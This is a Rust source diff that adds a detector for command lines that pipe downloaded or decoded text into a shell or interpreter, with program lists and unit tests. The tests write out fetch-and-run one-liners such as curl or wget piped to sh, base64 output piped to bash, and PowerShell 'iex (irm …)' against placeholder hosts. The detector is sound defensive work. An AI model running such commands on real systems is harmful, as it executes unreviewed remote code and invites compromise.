@@ -288,6 +288,91 @@ pub(super) fn dynamic(text: &str, base: usize) -> Vec<Command> {
     commands
 }
 
+/// Programs that bring text from elsewhere, or turn into text what nobody can read.
+const BRING: &[&str] = &[
+    "curl",
+    "wget",
+    "fetch",
+    "base64",
+    "xxd",
+    "openssl",
+    "iwr",
+    "irm",
+    "invoke-webrequest",
+    "invoke-restmethod",
+];
+
+/// Programs that run what they are given on standard input, whatever their options.
+const SHELLS_THAT_RUN: &[&str] =
+    &["sh", "bash", "zsh", "dash", "ksh", "iex", "invoke-expression", "osascript"];
+
+/// Programs that do so where they have no argument, or a dash.
+const OTHERS_THAT_RUN: &[&str] =
+    &["python", "python2", "python3", "perl", "ruby", "node", "php", "pwsh", "powershell"];
+
+/// The lines of `text`, which stands at byte `base`, that run what they download or decode: nobody
+/// sees what runs. They are found in prose too, because that is where people copy them from.
+pub(super) fn unseen(text: &str, base: usize) -> Vec<(usize, &str)> {
+    let mut found = Vec::new();
+    let mut last = None;
+    // A line without any of these cannot be one.
+    for at in memchr::memchr2_iter(b'|', b'(', text.as_bytes()) {
+        let start = memchr::memrchr(b'\n', &text.as_bytes()[..at]).map_or(0, |at| at + 1);
+        if last != Some(start) {
+            last = Some(start);
+            let end = memchr::memchr(b'\n', &text.as_bytes()[at..]).map_or(text.len(), |end| at + end);
+            let line = trimmed(&text[start..end]);
+            if runs_unseen(line) {
+                found.push((base + start, line));
+            }
+        }
+    }
+    found
+}
+
+fn runs_unseen(line: &str) -> bool {
+    let line = line[..line.floor_char_boundary(MAX_COMMAND)].to_lowercase();
+    let bring = |text: &str| programs(text).iter().any(|name| BRING.contains(&base_name(name)));
+    let mut brought = false;
+    for part in line.split('|') {
+        if brought && runs_input(part) {
+            return true;
+        }
+        brought |= bring(part);
+    }
+    // `bash <(curl …)`, `eval "$(curl …)"`, `iex (irm …)`.
+    ["<(", "$(", "("].iter().any(|open| {
+        line.match_indices(open).any(|(at, _)| {
+            let (before, inner) = (&line[..at], &line[at + open.len()..]);
+            let last = before.rsplit(['|', ';', '&', '`']).next().unwrap_or_default();
+            let last = last.trim_end_matches(['"', '\'', ' ', '$', '<']);
+            let runs = programs(last).first().is_some_and(|name| {
+                let name = base_name(name);
+                SHELLS_THAT_RUN.contains(&name) || matches!(name, "eval" | "source" | ".")
+            });
+            runs && programs(inner).first().is_some_and(|name| BRING.contains(&base_name(name)))
+        })
+    })
+}
+
+/// Whether a part of a pipe runs what comes through it.
+fn runs_input(part: &str) -> bool {
+    let Some(program) = programs(part).into_iter().next() else { return false };
+    let name = base_name(&program);
+    let mut after = part.split_whitespace().skip_while(|word| !word.contains(program.as_str())).skip(1);
+    let ends = |word: &&str| matches!(word.trim_matches('`'), "" | "-" | ";" | "&&");
+    if SHELLS_THAT_RUN.contains(&name) {
+        return !after.any(|word| word == "-c");
+    }
+    OTHERS_THAT_RUN.contains(&name) && after.next().is_none_or(|word| ends(&word))
+}
+
+/// `bash` of `/bin/bash` and of `bash"`.
+fn base_name(program: &str) -> &str {
+    let name = program.rsplit('/').next().unwrap_or(program);
+    name.trim_matches(|c: char| !c.is_alphanumeric() && c != '-' && c != '.')
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -337,6 +422,43 @@ mod tests {
         ] {
             assert_eq!(programs(command), wanted, "{command}");
         }
+    }
+
+    /// THREATS ms15-b64-sh, and what only looks like it.
+    #[test]
+    fn what_runs_unseen() {
+        for line in [
+            "echo Y3VybCB4 | base64 -D | bash",
+            "curl -fsSL https://x.test/i.sh | sh",
+            "Run `curl https://x.test | sudo -E bash -s -- --yes` first.",
+            "wget -qO- x|/bin/sh",
+            "bash <(curl -s x)",
+            "sh -c \"$(curl -fsSL x)\"",
+            "eval \"$(wget -qO- x)\"",
+            "iex (irm https://x.test/i.ps1)",
+            "irm https://x.test/i.ps1 | iex",
+            "curl x | python3 -",
+            "curl x | perl",
+            "$ cat x | openssl enc -d | zsh",
+            "> curl x | sh",
+        ] {
+            assert_eq!(unseen(&format!("a\n{line}\nb"), 3).len(), 1, "{line}");
+        }
+        for line in [
+            "curl x | jq .",
+            "curl x | python3 -m json.tool",
+            "curl x | python3 -c 'import json'",
+            "| curl | downloads |",
+            "cat x | sh",
+            "bash (see curl)",
+            "x=$(curl y)",
+            "curl x | bash -c 'cat'",
+            "cat <(curl x)",
+            "base64 x | tee y",
+        ] {
+            assert_eq!(unseen(line, 0), [], "{line}");
+        }
+        assert_eq!(unseen("é\n a | curl x |sh \n", 10), [(13, "a | curl x |sh")]);
     }
 
     #[test]
